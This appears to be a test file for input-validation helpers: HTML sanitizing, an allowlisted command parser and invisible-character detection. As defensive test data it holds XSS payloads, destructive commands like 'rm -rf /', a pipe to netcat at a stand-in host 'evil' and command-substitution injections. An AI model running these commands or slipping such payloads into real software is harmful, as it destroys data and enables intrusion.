import { findInvisible, sanitizeCommand, sanitizeHtmlText, stripInvisible } from '../../../src/domain/validation/index.js';

describe('sanitizeHtml', () => {
  test('text only: every tag goes, the text stays (the plan\'s bleach tags=[])', () => {
    expect(sanitizeHtmlText('<p>Hello <b>world</b><script>alert(1)</script></p>', 'text_only')).toEqual({ html: 'Hello world', modified: true });
  });
  test('basic: formatting and http links survive; handlers and javascript: do not', () => {
    const { html } = sanitizeHtmlText('<p onclick="x()">Hi <a href="javascript:alert(1)">a</a> <a href="https://e.com" target="_blank">b</a><img src=x onerror=alert(1)></p>', 'basic');
    expect(html).toBe('<p>Hi <a>a</a> <a href="https://e.com">b</a></p>');
  });
  test('clean input is not modified', () => {
    expect(sanitizeHtmlText('plain words', 'text_only')).toEqual({ html: 'plain words', modified: false });
  });
});

describe('sanitizeCommand', () => {
  const allowed = ['ls', 'git', '/usr/bin/grep'];
  test('argv for a shell-less spawn, quotes honoured, nothing expanded', () => {
    expect(sanitizeCommand(`git commit -m "fix the bug"  --author 'A B'`, allowed)).toEqual({ allowed: true, argv: ['git', 'commit', '-m', 'fix the bug', '--author', 'A B'] });
    expect(sanitizeCommand('/usr/bin/grep -r TODO src', allowed)).toEqual({ allowed: true, argv: ['/usr/bin/grep', '-r', 'TODO', 'src'] });
    expect(sanitizeCommand('ls ""', allowed)).toEqual({ allowed: true, argv: ['ls', ''] });
  });
  test.each([
    ['ls; rm -rf /', 'shell_metacharacter', "';' at offset 2"],
    ['ls | nc evil 1', 'shell_metacharacter', "'|' at offset 3"],
    ['ls $(whoami)', 'shell_metacharacter', "'$' at offset 3"],
    ['ls "a;b"', 'shell_metacharacter', "';' at offset 5"],
    ['ls\nrm x', 'shell_metacharacter', 'newline at offset 2'],
    ['rm -rf /', 'program_not_allowed', '"rm" is not an allowed program'],
    ['/bin/ls', 'program_not_allowed', '"/bin/ls" is not an allowed program'],
    ['git commit -m "oops', 'unbalanced_quotes', '" at offset 14 is not closed'],
    ['   ', 'empty', 'no program given'],
    ['ls\u200b -la', 'control_character', 'control or invisible character at offset 2'],
  ])('refuses %j', (command, rejection, detail) => {
    expect(sanitizeCommand(command, allowed)).toEqual({ allowed: false, rejection, detail });
  });
});

describe('invisible characters', () => {
  test('zero-width, bidi controls, tag characters and C0 controls; not tab or newlines', () => {
    const text = 'a\u200bb\u202ec\u{E0041}d\u0007e\tf\ng\r\n';
    expect(findInvisible(text)).toEqual([
      { offset: 1, codePoint: 0x200b, category: 'Cf' },
      { offset: 3, codePoint: 0x202e, category: 'Cf' },
      { offset: 5, codePoint: 0xe0041, category: 'Cf' },
      { offset: 8, codePoint: 0x07, category: 'Cc' },
    ]);
    expect(stripInvisible(text).text).toBe('abcde\tf\ng\r\n');
  });
});
